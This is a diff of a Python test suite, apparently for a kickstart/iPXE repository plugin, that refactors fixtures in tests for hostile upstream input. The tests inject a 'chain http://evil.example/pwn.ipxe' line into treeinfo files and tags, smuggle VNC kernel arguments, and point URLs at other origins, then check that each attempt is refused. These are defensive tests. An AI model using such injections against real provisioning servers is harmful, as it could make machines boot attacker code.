@@ -14,7 +14,7 @@ import requests
 from tests.support import dnf, fedora
 from tests.support.oci import Pusher
 from tests.support.paginating_proxy import PagingProxy
-from tests.support.pulp import CONTENT, unique
+from tests.support.pulp import unique
 
 from .conftest import latest, reports
 
@@ -25,41 +25,6 @@ EVIL = "http://evil.example/pwn.ipxe"
 def workdir():
     with tempfile.TemporaryDirectory(prefix="kickstart-hostile-") as directory:
         yield directory
-
-
-@pytest.fixture
-def dnf_server():
-    servers = []
-
-    def _serve(tree):
-        server = dnf.StaticServer(tree.root).__enter__()
-        servers.append(server)
-        return server
-
-    yield _serve
-    for server in servers:
-        server.__exit__(None, None, None)
-
-
-@pytest.fixture
-def dnf_remote(api, cleanup):
-    def _make(server, **fields):
-        body = {"name": unique("dnf"), "url": server.url + "/", **fields}
-        remote = api.create("remotes/kickstart/dnf/", body)
-        cleanup(remote["pulp_href"])
-        return remote
-
-    return _make
-
-
-def _served_menu(api, repository, cleanup):
-    base_path = unique("hostile")
-    distribution = api.create(
-        "distributions/kickstart/kickstart/",
-        {"name": base_path, "base_path": base_path, "repository": repository["pulp_href"]},
-    )
-    cleanup(distribution["pulp_href"])
-    return f"{CONTENT}/pulp/content/{base_path}/boot.ipxe"
 
 
 def _rewrite(path, old, new):
@@ -85,24 +50,24 @@ def _fails_and_changes_nothing(api, repository, remote, *expected):
 def test_a_treeinfo_continuation_line_cannot_reach_the_menu(
     api,
     workdir,
-    dnf_server,
-    dnf_remote,
+    serve_tree,
+    make_dnf_remote,
     repository,
-    cleanup,
+    distribute,
     upstream,
     make_remote,
     publish_release,
 ):
     publish_release(upstream, "41", archs=("amd64",))
     api.sync(repository, make_remote(upstream))
-    menu_url = _served_menu(api, repository, cleanup)
+    menu_url = distribute(repository) + "/boot.ipxe"
     menu_before = requests.get(menu_url, timeout=30).text
 
     tree = dnf.fedora_tree(workdir, release="42", salt=unique("-cont"))
     release = "[release]\nname = Fedora\nshort = Fedora\nversion = 42\n"
     _rewrite(tree.root / ".treeinfo", release, f"{release}  chain {EVIL}\n")
     message = _fails_and_changes_nothing(
-        api, repository, dnf_remote(dnf_server(tree)), "[release] version"
+        api, repository, make_dnf_remote(serve_tree(tree)), "[release] version"
     )
     assert "\n" not in message.split("[release] version", 1)[0][-200:]
     assert requests.get(menu_url, timeout=30).text == menu_before
@@ -110,7 +75,7 @@ def test_a_treeinfo_continuation_line_cannot_reach_the_menu(
 
 
 def test_a_kernel_path_with_arguments_fails_naming_the_key(
-    api, workdir, dnf_server, dnf_remote, repository
+    api, workdir, serve_tree, make_dnf_remote, repository
 ):
     tree = dnf.fedora_tree(workdir, release="42", salt=unique("-args"))
     _rewrite(
@@ -119,12 +84,12 @@ def test_a_kernel_path_with_arguments_fails_naming_the_key(
         "kernel = images/pxeboot/vmlinuz inst.vnc inst.vncpassword=x",
     )
     _fails_and_changes_nothing(
-        api, repository, dnf_remote(dnf_server(tree)), "[images-x86_64] kernel", "inst.vnc"
+        api, repository, make_dnf_remote(serve_tree(tree)), "[images-x86_64] kernel", "inst.vnc"
     )
 
 
 def test_tags_outside_the_oci_grammar_are_ignored_and_named(
-    api, upstream, make_remote, repository, publish_release, cleanup
+    api, upstream, make_remote, repository, publish_release, distribute
 ):
     publish_release(upstream, "42", archs=("amd64",))
     injected = ["42\n-amd64", f"42\nchain {EVIL}"]
@@ -135,7 +100,7 @@ def test_tags_outside_the_oci_grammar_are_ignored_and_named(
     assert {(t["version"], t["arch"]) for t in trees} == {("42", "x86_64")}
     ignored = reports(task)["sync.ignored.tags"]
     assert ignored["total"] == 2 and "42\\n-amd64" in ignored["message"]
-    menu = requests.get(_served_menu(api, repository, cleanup), timeout=30).text
+    menu = requests.get(distribute(repository) + "/boot.ipxe", timeout=30).text
     assert "evil" not in menu and "chain http://" in menu
 
 
@@ -157,15 +122,15 @@ def test_a_base_path_with_script_syntax_is_refused(api, repository):
 
 
 def test_metadata_urls_outside_the_tree_are_never_fetched(
-    api, workdir, dnf_server, dnf_remote, repository
+    api, workdir, serve_tree, make_dnf_remote, repository
 ):
-    other = dnf_server(dnf.fedora_tree(workdir, release="40", salt=unique("-other")))
+    other = serve_tree(dnf.fedora_tree(workdir, release="40", salt=unique("-other")))
     tree = dnf.fedora_tree(workdir, release="42", salt=unique("-ssrf"))
     repomd = tree.root / "repodata" / "repomd.xml"
     primary = re.search(r'href="(repodata/[^"]*primary[^"]*)"', repomd.read_text()).group(1)
     for target in (f"{other.url}/{primary}", f"//{other.url.split('//', 1)[1]}/{primary}"):
         _rewrite(repomd, f'href="{primary}"', f'href="{target}"')
-        remote = dnf_remote(dnf_server(tree), username="user", password="pw-not-for-others")
+        remote = make_dnf_remote(serve_tree(tree), username="user", password="pw-not-for-others")
         message = _fails_and_changes_nothing(api, repository, remote, "not a relative path")
         assert "pw-not-for-others" not in message
         _rewrite(repomd, f'href="{target}"', f'href="{primary}"')
@@ -176,16 +141,16 @@ def test_metadata_urls_outside_the_tree_are_never_fetched(
         "kernel = images/pxeboot/vmlinuz",
         f"kernel = {other.url}/images/pxeboot/vmlinuz",
     )
-    _fails_and_changes_nothing(api, repository, dnf_remote(dnf_server(tree)), "kernel")
+    _fails_and_changes_nothing(api, repository, make_dnf_remote(serve_tree(tree)), "kernel")
     assert other.requests == []
 
 
 def test_a_tag_list_that_continues_on_another_origin_is_not_followed(
-    api, workdir, upstream, make_remote, repository, publish_release, dnf_server
+    api, workdir, upstream, make_remote, repository, publish_release, serve_tree
 ):
     publish_release(upstream, "42", archs=("amd64",))
     publish_release(upstream, "43", archs=("amd64",))
-    elsewhere = dnf_server(dnf.DnfTree(tempfile.mkdtemp(dir=workdir)))
+    elsewhere = serve_tree(dnf.DnfTree(tempfile.mkdtemp(dir=workdir)))
     with PagingProxy(upstream.base, page_size=1, link_base=elsewhere.url) as proxy:
         remote = make_remote(Pusher(proxy.url, upstream.name))
         _fails_and_changes_nothing(api, repository, remote, "another origin")
@@ -202,13 +167,13 @@ def test_a_tag_list_that_never_ends_is_cut_at_its_cap(
 
 
 def test_a_treeinfo_past_its_cap_fails_naming_the_setting(
-    api, workdir, dnf_server, dnf_remote, repository
+    api, workdir, serve_tree, make_dnf_remote, repository
 ):
     tree = dnf.fedora_tree(workdir, release="42", salt=unique("-big"))
     with open(tree.root / ".treeinfo", "a") as treeinfo:
         treeinfo.write(("# padding\n" * 1024) * 120)  # 1.2 MiB
     _fails_and_changes_nothing(
-        api, repository, dnf_remote(dnf_server(tree)), "KICKSTART_MAX_TREEINFO_BYTES"
+        api, repository, make_dnf_remote(serve_tree(tree)), "KICKSTART_MAX_TREEINFO_BYTES"
     )
 
 
@@ -230,7 +195,7 @@ def test_one_manifest_under_two_releases_in_one_sync_is_two_trees(
 
 
 def test_one_manifest_under_two_releases_is_two_trees(
-    api, upstream, make_remote, repository, cleanup
+    api, upstream, make_remote, repository, cleanup, distribute
 ):
     files = fedora.tree_files("42", "amd64", salt=upstream.name)
     digest, _ = upstream.netboot("42-amd64", files)
@@ -247,7 +212,7 @@ def test_one_manifest_under_two_releases_is_two_trees(
     assert (first["version"], second["version"]) == ("42", "43")
     kernel = dict(files)["vmlinuz"]
     for repo, release in ((repository, "42"), (other, "43")):
-        base = _served_menu(api, repo, cleanup).rsplit("/", 1)[0]
+        base = distribute(repo)
         url = f"{base}/{release}/x86_64/images/pxeboot/vmlinuz"
         assert requests.get(url, timeout=30).content == kernel
 
@@ -256,18 +221,20 @@ def test_one_manifest_under_two_releases_is_two_trees(
 
 
 def test_a_stored_tree_is_not_kept_under_gpg_keys_without_a_valid_signature(
-    api, workdir, dnf_server, dnf_remote, repository, cleanup
+    api, workdir, serve_tree, make_dnf_remote, repository, cleanup
 ):
     signer = dnf.make_key("Hostile Signer", workdir)
     trusted = dnf.make_key("Trusted Signer", workdir)
     try:
         tree = dnf.fedora_tree(workdir, release="42", key=signer, salt=unique("-gpg"))
-        server = dnf_server(tree)
-        api.sync(repository, dnf_remote(server))  # stored once, without keys
+        server = serve_tree(tree)
+        api.sync(repository, make_dnf_remote(server))  # stored once, without keys
         guarded = api.create("repositories/kickstart/kickstart/", {"name": unique("repo")})
         cleanup(guarded["pulp_href"])
         task = api.sync(
-            guarded, dnf_remote(server, gpg_keys=trusted.public_armored), raise_on_failure=False
+            guarded,
+            make_dnf_remote(server, gpg_keys=trusted.public_armored),
+            raise_on_failure=False,
         )
         assert task["state"] == "failed"
         assert "not in gpg_keys" in task["error"]["description"]
@@ -275,7 +242,7 @@ def test_a_stored_tree_is_not_kept_under_gpg_keys_without_a_valid_signature(
 
         # The signer's key verifies the stored tree (its RPMs are fetched again, not
         # unpacked); that keyring is recorded, so the next keyed sync fetches nothing.
-        keyed = dnf_remote(server, gpg_keys=signer.public_armored)
+        keyed = make_dnf_remote(server, gpg_keys=signer.public_armored)
         server.requests.clear()
         verified = api.sync(guarded, keyed)
         assert "sync.verifying.packages" in reports(verified)
